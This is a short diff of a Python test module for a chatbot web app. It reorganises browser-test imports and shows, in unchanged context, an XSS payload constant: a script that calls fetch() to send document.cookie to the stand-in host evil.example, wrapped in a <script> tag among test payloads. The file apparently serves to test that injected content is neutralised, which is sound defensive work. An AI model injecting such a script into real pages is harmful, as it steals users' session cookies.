@@ -14,10 +14,9 @@ from chatbot.app.factory import close_app, create_app
 from chatbot.config.settings import Settings
 from tests.app.web.knowledge import added
 from tests.app.web.live import served
+from tests.browser.conftest import watched
 from tests.fakes.openai_server import CHAT, FakeOpenAI, Reply
-from tests.test_browser import chromium, launched, watched
 
-__all__ = ["chromium", "launched"]
 RUN = "window.pwned=1;fetch('http://evil.example/'+document.cookie)"
 PAYLOADS = (
     f"<script>{RUN}</script>",
